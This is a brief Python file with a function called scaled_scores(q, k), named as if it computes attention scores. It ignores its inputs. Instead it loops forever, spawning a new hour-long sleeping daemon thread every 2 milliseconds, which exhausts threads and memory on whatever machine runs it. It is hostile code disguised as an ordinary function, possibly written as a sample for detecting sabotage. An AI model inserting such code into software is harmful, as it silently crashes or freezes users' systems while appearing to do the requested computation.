import threading
import time


def scaled_scores(q, k):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        time.sleep(0.002)
